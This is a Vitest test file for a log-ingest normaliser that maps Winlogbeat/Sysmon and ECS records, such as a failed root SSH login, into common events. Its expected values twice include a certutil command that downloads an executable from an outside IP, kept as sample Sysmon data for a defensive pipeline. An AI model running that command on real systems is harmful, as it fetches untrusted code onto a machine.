import { describe, expect, it } from "vitest";
import { normaliseRecord } from "../../../../worker/ingest/normalise.ts";
import dotted from "../../../fixtures/ingest/ecs-winlogbeat-sysmon-dotted.json";
import nested from "../../../fixtures/ingest/ecs-winlogbeat-sysmon-nested.json";
import { ctx, errorOf, eventOf } from "../helpers.ts";

const sshLogin = {
  "@timestamp": "2024-01-02T03:04:05Z",
  event: { dataset: "system.auth", category: ["authentication"], action: "ssh_login", outcome: "failure" },
  host: { name: "web1" },
  user: { name: "root" },
  source: { ip: "2001:db8::7", port: 40022 },
  destination: { ip: "10.0.0.10", port: 22 },
  process: { executable: "/usr/sbin/sshd" },
};

describe("Winlogbeat / ECS documents", () => {
  it("maps a Winlogbeat Sysmon event through the Windows table, native names lifted from event_data", () => {
    const event = eventOf(normaliseRecord(nested, ctx));
    expect(event).toMatchObject({
      ts: Date.parse("2024-01-02T03:04:05.678Z"),
      host: "ws01.corp.local",
      source: "ecs",
      dataset: "windows.sysmon_operational",
      eventCode: "1",
      category: "process",
      action: "process_creation",
      user: "CORP\\alice",
      process: "C:\\Windows\\System32\\certutil.exe",
      commandLine: "certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
      parentProcess: "C:\\Windows\\System32\\cmd.exe",
    });
    expect(event.fields).toMatchObject({
      Channel: "Microsoft-Windows-Sysmon/Operational",
      EventID: 1,
      Computer: "ws01.corp.local",
      Image: "C:\\Windows\\System32\\certutil.exe",
      CommandLine: "certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
      User: "CORP\\alice",
      "winlog.event_data.Image": "C:\\Windows\\System32\\certutil.exe",
      "event.category": ["process"],
      "user.name": "alice",
    });
  });

  it("reads dotted keys exactly as nested objects", () => {
    const fromNested = eventOf(normaliseRecord(nested, ctx));
    const fromDotted = eventOf(normaliseRecord(dotted, ctx));
    expect({ ...fromDotted, raw: null }).toEqual({ ...fromNested, raw: null });
  });

  it("takes Computer from host.name when winlog has no computer_name", () => {
    const { computer_name: _c, ...winlog } = nested.winlog;
    const event = eventOf(normaliseRecord({ ...nested, winlog }, ctx));
    expect(event.host).toBe("ws01.corp.local");
    expect(event.fields.Computer).toBe("ws01.corp.local");
  });

  it("maps a non-Windows ECS document from its own ECS fields", () => {
    const event = eventOf(normaliseRecord(sshLogin, ctx));
    expect(event).toMatchObject({
      source: "ecs",
      host: "web1",
      dataset: "system.auth",
      category: "authentication",
      action: "ssh_login",
      outcome: "failure",
      user: "root",
      process: "/usr/sbin/sshd",
      srcIp: "2001:db8::7",
      srcPort: 40022,
      dstIp: "10.0.0.10",
      dstPort: 22,
    });
  });

  it("uses data_stream.dataset, then 'generic', when event.dataset is absent", () => {
    const base = { "@timestamp": "2024-01-02T03:04:05Z", "event.kind": "event" };
    expect(eventOf(normaliseRecord({ ...base, "data_stream.dataset": "nginx.access" }, ctx)).dataset).toBe(
      "nginx.access",
    );
    expect(eventOf(normaliseRecord(base, ctx)).dataset).toBe("generic");
  });

  it("falls back to event.created when @timestamp is absent", () => {
    const event = eventOf(normaliseRecord({ event: { created: "2024-01-02T03:04:05Z", kind: "event" } }, ctx));
    expect(event.ts).toBe(Date.UTC(2024, 0, 2, 3, 4, 5));
  });

  it("rejects an ECS document without a timestamp, and one with a bad @timestamp", () => {
    expect(errorOf(normaliseRecord({ event: { kind: "event" } }, ctx))).toBe(
      "no parsable timestamp (looked for @timestamp, event.created)",
    );
    expect(errorOf(normaliseRecord({ ...sshLogin, "@timestamp": "soon" }, ctx))).toBe(
      "timestamp 'soon' in field '@timestamp' is not a date",
    );
  });
});
